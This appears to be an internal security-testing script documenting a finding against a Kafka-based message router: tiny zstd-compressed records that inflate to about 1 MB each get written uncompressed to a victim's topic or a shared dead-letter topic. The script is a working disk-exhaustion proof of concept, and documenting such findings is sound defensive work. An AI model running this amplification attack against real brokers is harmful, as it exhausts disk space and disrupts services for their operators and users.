"""Finding: the broker's byte quota and disk count what a sender writes COMPRESSED; the router
inflates it and writes every copy uncompressed (its producer sets no compression). Records
whose value is 1,000,000 zero bytes take ~100 bytes each in a zstd batch; routed to another
member (here: unsolicited responses from the telecom to H40, f2) or refused (dead letters on
the shared ndxp.rejected, which keep the value), each becomes ~1 MB on disk. Ratio measured on
the log segments of the attacker's ingress topic vs the victim's egress topic.

Run: cd docs/hostile-runs/round2 && ../../../.venv/bin/python f9_compressed_disk_amplification.py [N] [response|forbidden]
"""
import glob, os, sys, time, uuid
from common import *
N = int(sys.argv[1]) if len(sys.argv) > 1 else 300
MODE = sys.argv[2] if len(sys.argv) > 2 else "response"
A = "0100100079"; A_CLIENT = f"VN:COM:{A}:xacthuc"; A_SERVICE = f"VN:COM:{A}:xacthuc:thong-bao-thue-bao:v1"
OUT = "ndxp.out.000.00.00.H40" if MODE == "response" else "ndxp.rejected"
def disk(topic):
    return sum(os.path.getsize(f) for f in glob.glob(f"{ROOT}/var/kafka-19392/data/{topic}-*/*.log"))
i0, o0 = disk(f"ndxp.in.{A}"), disk(OUT)
tag = uuid.uuid4().hex[:8]
p = producer(**{"compression.type": "zstd", "linger.ms": 100, "batch.size": 24 * 1024 * 1024, "message.max.bytes": 2_000_000})
val = bytes(1_000_000)
for i in range(N):
    if MODE == "response":
        h = hdrs({"ndxp-id": f"{tag}-{i}", "ndxp-kind": "response", "ndxp-client": "VN:GOV:000.00.00.H40:motcua",
                  "ndxp-service": A_SERVICE, "ndxp-correlation-id": "x"})
    else:
        h = request(f"{tag}-{i}", A_CLIENT, POP)
    p.produce(f"ndxp.in.{A}", key=A.encode(), value=val, headers=h); p.poll(0)
p.flush(); t0 = time.time()
time.sleep(2)
wire_bytes = disk(f"ndxp.in.{A}") - i0
while health(ROUTER_PORT)["lag"] > 0 and time.time() - t0 < 300: time.sleep(1)
time.sleep(3)
out_bytes = disk(OUT) - o0
print(f"attacker wrote {N} records of 1,000,000 bytes ({MODE}) as {wire_bytes:,} bytes on its ingress topic ({wire_bytes/N:.0f} B/record)")
print(f"{OUT} grew by {out_bytes:,} bytes: {out_bytes/max(wire_bytes,1):,.0f}x the sender's bytes")
print(sql(f"SELECT outcome, error, count() n, sum(payload_size) bytes FROM ndxp.ledger WHERE startsWith(message_id,'{tag}') GROUP BY ALL"))
